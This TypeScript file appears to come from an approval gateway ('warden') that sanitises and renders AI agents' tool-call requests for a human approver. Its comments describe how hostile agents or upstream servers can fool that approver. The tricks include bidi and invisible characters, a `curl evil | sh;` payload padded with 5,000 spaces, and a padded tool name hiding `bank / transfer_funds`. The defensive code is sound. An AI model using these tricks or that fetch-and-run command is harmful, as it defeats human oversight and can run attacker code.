import { actorIds } from '../core/principal.js';
import type { JudgedAction } from '../core/tool-call.js';
import type { Grant, PendingApproval } from './approval-types.js';

/** A pending approval as the API sends it (PendingApproval plus time left). */
export type PendingWire = PendingApproval & { readonly expiresInMs: number };

// C0/C1 controls (line feed and tab included: an agent's cancel reason with line breaks drew a
// card of its own on the approver's screen), bidi overrides, isolates and marks (an RLM alone
// reorders "1 - 2" in a bidi-capable terminal), line separators and invisible characters
// (zero-width, soft hyphen, BOM, tags; every format character and default-ignorable code point,
// so variation selectors that smuggle bytes after an emoji, Hangul fillers and interlinear
// annotations too): values come from agents and must neither drive the terminal nor hide,
// reorder or forge what the approver reads. Every caller passes one line.
const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/gu;

/** Makes agent-supplied text safe to print on a terminal (no escape sequences, no bidi or invisible tricks). */
export function terminalSafe(text: string): string {
  return text.replace(UNSAFE, (c) => {
    const cp = c.codePointAt(0) ?? 0;
    return cp > 0xffff ? `\\u{${cp.toString(16)}}` : `\\u${cp.toString(16).padStart(4, '0')}`;
  });
}

/** The same in JSON text, less C0 (JSON.stringify escapes those; pretty-printing newlines stay). */
const JSON_UNSAFE = /[\u007f-\u009f\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/gu;

/**
 * JSON text (`--json` output) made safe to print on a terminal: JSON.stringify leaves C1 controls,
 * bidi and invisible characters raw. Escaped as `\uXXXX` per UTF-16 unit, so the text still parses
 * to the very same value (these characters only occur inside strings).
 */
export function terminalSafeJson(json: string): string {
  return json.replace(JSON_UNSAFE, (c) => {
    let out = '';
    for (let i = 0; i < c.length; i++) out += `\\u${c.charCodeAt(i).toString(16).padStart(4, '0')}`;
    return out;
  });
}

/**
 * `alice via agent-7 ← planner`; an agent whose token names its issuer shows it
 * (`agent-7 [https://idp.b]`): the approver must be able to tell two agents with one name apart.
 */
export function describeWho(p: Pick<PendingApproval['principal'], 'user' | 'actor' | 'actorIssuer' | 'priorActors' | 'priorActorIssuers'>): string {
  const chain = actorIds({ ...p, priorActors: p.priorActors ?? [] }).map((a) => (a.iss === null ? a.sub : `${a.sub} [${a.iss}]`));
  const via = chain.length > 0 ? ` via ${chain.join(' ← ')}` : '';
  return terminalSafe(`${p.user}${via}`);
}

/**
 * Whom and what a grant covers, in words an approver cannot misread: `alice via agent-7 (this
 * agent only) · acme/transfer_funds · any arguments`. A very long tool name is cut (see clipped).
 */
export function describeGrantScope(g: Pick<Grant, 'user' | 'actor' | 'actorIssuer' | 'priorActors' | 'priorActorIssuers' | 'clientId' | 'scope' | 'upstream' | 'tool' | 'argsDigest'>): string {
  // Without `act`, an agent app holding the user's own token is its client: say so, it is not "alice directly".
  const who =
    g.scope === 'user'
      ? `${terminalSafe(g.user)} through any agent`
      : g.actor
        ? `${describeWho(g)} (this agent only)`
        : g.clientId !== undefined
          ? `${terminalSafe(g.user)} through client ${terminalSafe(g.clientId)} (this client only)`
          : `${terminalSafe(g.user)} directly (no agent)`;
  // A completion's grant binds which argument is completed and its context, not what is typed (grantArgumentsDigest).
  const args = !g.argsDigest ? 'any arguments' : g.tool === 'completion/complete' ? 'this argument, same other arguments, any value typed' : 'same arguments only';
  return `${who} · ${terminalSafe(g.upstream)}/${clipped(g.tool)} · ${args}`;
}

/**
 * Longest argument line a cut-short card prints (escaped text, indentation included). One JSON
 * line holds a whole string value, however long: 5,000 spaces after `curl evil | sh;` wrapped into
 * screens of blank rows that scrolled the dangerous start (and who / what) off the terminal, so the
 * approver saw only the harmless-looking tail next to the menu.
 */
export const MAX_ARG_LINE_CHARS = 160;

/**
 * Escaped text cut after MAX_ARG_LINE_CHARS characters, saying how much was left out (and, in
 * `show`, where to read it). Used for an upstream's tool name: with several upstreams only the
 * first 64 characters of an exposed name are checked (namespacing.ts), and past them a hostile
 * upstream's name may hold 5,000 spaces and then `bank / transfer_funds`. That wrapped the card's
 * `what` line (and the `[r] covers` line under the menu, and a pins reason naming the tool) into
 * screens of blank rows, leaving only the tail in sight while the call goes to the hostile upstream.
 */
function clipped(text: string, show = ''): string {
  const safe = terminalSafe(text);
  return safe.length <= MAX_ARG_LINE_CHARS ? safe : `${safe.slice(0, MAX_ARG_LINE_CHARS)}… (${safe.length - MAX_ARG_LINE_CHARS} more characters${show})`;
}

function indentJson(value: unknown, maxLines: number, id: string): string[] {
  const lines = (JSON.stringify(value, null, 2) ?? 'undefined').split('\n');
  const show = `\`warden approvals show ${terminalSafe(id)}\` prints them all`;
  const cut = Number.isFinite(maxLines);
  const shown = lines.slice(0, maxLines).map((l) => (cut ? clipped(l, `: ${show}`) : terminalSafe(l)));
  // The agent chooses the order of its arguments: say where the rest can be read in full.
  if (lines.length > maxLines) shown.push(`… (${lines.length - maxLines} more lines: ${show})`);
  return shown;
}

/**
 * What kind of request waits, in words: set by warden, never by the agent or the upstream, so an
 * upstream tool named like a virtual tool (`resources／read`, a fullwidth slash) still reads as
 * the tool call it is.
 */
const ACTION_WORDS: Readonly<Record<JudgedAction, string>> = {
  'tools/call': 'tool call',
  'resources/read': 'resource read',
  'prompts/get': 'prompt fetch',
  'completion/complete': 'completion',
  'resources/subscribe': 'subscription',
};

/**
 * The card shown to a human approver: who, what, why. `maxArgLines` bounds the arguments shown
 * (the interactive console), and then each argument line too (MAX_ARG_LINE_CHARS); `warden
 * approvals show` passes Infinity: it prints the request in full.
 */
export function renderApprovalCard(a: PendingApproval, position: string, maxArgLines = 20): string[] {
  const pad = '        ';
  const cut = Number.isFinite(maxArgLines);
  const show = `: \`warden approvals show ${terminalSafe(a.id)}\` prints them all`;
  // Cut like the argument lines: a reason may name the tool (a pins hold), however long its name.
  const reasons = a.reasons.map((r) => `${pad}${terminalSafe(r.code)}  ${cut ? clipped(r.detail, show) : terminalSafe(r.detail)}`);
  return [
    `━━ approval request ${a.id}${position ? ` ${position}` : ''} ━━`,
    // The client too: an agent app holding the user's own token (no `act`) is known by nothing else.
    `  who   ${describeWho(a.principal)}${a.principal.issuer ? ` (${terminalSafe(a.principal.issuer)})` : ''}${a.principal.clientId !== undefined ? ` · client ${terminalSafe(a.principal.clientId)}` : ''}`,
    `  what  ${terminalSafe(a.upstream)} / ${cut ? clipped(a.tool, show) : terminalSafe(a.tool)}  (${ACTION_WORDS[a.action ?? 'tools/call']})`,
    ...indentJson(a.arguments, maxArgLines, a.id).map((l) => `${pad}${l}`),
    `  why   score ${a.score}${a.rules.length > 0 ? ` · rules ${terminalSafe(a.rules.join(', '))}` : ''}`,
    ...reasons,
    `  call  ${terminalSafe(a.callId)} · session ${terminalSafe(a.sessionId)}`,
  ];
}

/** One line per pending approval for `warden approvals list`. */
export function renderPendingLine(a: PendingWire): string {
  const left = Math.ceil(a.expiresInMs / 1000);
  return `${a.id}  ${describeWho(a.principal)}  ${terminalSafe(a.upstream)}/${clipped(a.tool)} (${ACTION_WORDS[a.action ?? 'tools/call']})  score ${a.score}  ${left} s left`;
}

/** One line per grant for `warden approvals grants`. */
export function renderGrantLine(g: Grant, now: number): string {
  const mins = Math.max(0, Math.ceil((g.expiresAt - now) / 60_000));
  return `${terminalSafe(g.id)}  ${describeGrantScope(g)}  ${mins} min left  by ${terminalSafe(g.createdBy.id)}`;
}
